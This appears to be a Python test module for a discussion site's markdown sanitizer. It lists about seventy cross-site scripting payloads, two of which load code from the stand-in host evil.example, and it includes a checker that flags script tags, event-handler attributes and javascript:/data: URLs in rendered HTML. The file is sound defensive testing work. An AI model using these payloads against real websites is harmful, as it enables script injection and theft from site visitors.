"""Payloads that try to run script through a comment, and the checks that none got through.

`JS` in a payload is what an attack would run: it fires a dialog and sets the canary
`window.__xss`, so the browser test can tell if anything ever executed.
"""

import re
from html import unescape
from html.parser import HTMLParser

from discussion.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

JS = "window.__xss=1;alert(1)"

_PAYLOADS = [
    # script tags, plain and disguised
    "<script>JS</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<sCrIpT>JS</ScRiPt>",
    "<scr<script>ipt>JS</scr</script>ipt>",
    "<<script>JS//<</script>",
    '<img """><script>JS</script>">',
    "<template><script>JS</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=JS>">',
    # event-handler attributes
    "<img src=x onerror=JS>",
    "<IMG SRC=x OnErRoR=JS>",
    "<body onload=JS>",
    "<details open ontoggle=JS>",
    "<input autofocus onfocus=JS>",
    '<a href="#" onclick="JS">click</a>',
    '<video><source onerror="JS"></video>',
    '<div onmouseover="JS" style="position:fixed;inset:0">cover</div>',
    # SVG and MathML
    "<svg onload=JS>",
    "<svg><script>JS</script></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:JS"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:JS></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=JS>",
    '<math href="javascript:JS">CLICKME</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:JS">x</maction></math>',
    # javascript:, data:, vbscript: in markdown links
    "[click](javascript:JS)",
    "[click](JaVaScRiPt:JS)",
    "[click](<javascript:JS>)",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;JS)",
    "[click](&#x6A;avascript:JS)",
    "[click](javascript&colon;JS)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](VBScript:msgbox(1))",
    "<javascript:JS>",
    "<data:text/html,<script>JS</script>>",
    "[ref]\n\n[ref]: javascript:JS",
    "![x](javascript:JS)",
    '![x](x" onerror="JS)',
    '[x](https://example.org" onmouseover="JS)',
    "[x](https://example.org 'a\" onmouseover=\"JS')",
    "[<img src=x onerror=JS>](https://example.org)",
    # ... and in raw HTML
    '<a href="javascript:JS">x</a>',
    '<a href="&#106;avascript:JS">x</a>',
    '<a href="jav&#x09;ascript:JS">x</a>',
    "<a href=javas&#99;ript:JS>x</a>",
    '<a href="data:text/html,<script>JS</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href=" &#14; javascript:JS">x</a>',
    # frames, objects, styles, forms, base, meta
    '<iframe src="javascript:JS"></iframe>',
    '<iframe srcdoc="<script>JS</script>"></iframe>',
    '<object data="javascript:JS"></object>',
    '<embed src="javascript:JS">',
    '<div style="background:url(javascript:JS)">x</div>',
    "<style>@import 'http://evil.example/x.css'; body{background:red}</style>",
    '<form action="javascript:JS"><button>x</button></form>',
    '<base href="javascript:JS//">',
    '<meta http-equiv="refresh" content="0;url=javascript:JS">',
    '<link rel="stylesheet" href="javascript:JS">',
    # entity-encoded and broken
    "&lt;script&gt;JS&lt;/script&gt;",
    "&#60;script&#62;JS&#60;/script&#62;",
    '<img src="x onerror=JS//',
    "<img src=x onerror=JS",
    "<!--<img src=x onerror=JS>-->",
    "`<script>JS</script>`",
    "```html\n<script>JS</script>\n```",
    "@<script>JS</script>",
    "> <img src=x onerror=JS>\n> [q](javascript:JS)",
    "- <svg/onload=JS>\n- [l](javascript:JS)",
]

PAYLOADS = [p.replace("JS", JS) for p in _PAYLOADS]
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40

BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
_CONTROL = re.compile(r"[\x00-\x20]+")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def executable_content(html: str) -> list[str]:
    """Everything in `html` that could run script or restyle the page; [] when it is safe."""
    problems: list[str] = []
    lowered = html.lower()
    for needle in ("<script", "<style", "<iframe", "<svg", "<math", "<object", "<embed"):
        if needle in lowered:
            problems.append(f"contains {needle}")
    for tag_text in re.findall(r"<[^>]*>", html):
        # Attribute values are quoted text, not attributes: `title="a onclick=b"` is harmless.
        bare = re.sub(r"\"[^\"]*\"|'[^']*'", '""', tag_text)
        if re.search(r"[\s/]on\w+\s*=", bare, flags=re.I):
            problems.append(f"an on…= attribute in {tag_text}")
    parser = _Tags()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        if tag not in ALLOWED_TAGS:
            problems.append(f"tag <{tag}>")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs.items():
            if name not in allowed:
                problems.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                url = _CONTROL.sub("", unescape(value or "")).lower()
                if url.startswith(BAD_SCHEMES):
                    problems.append(f"{name}={value!r}")
    return problems
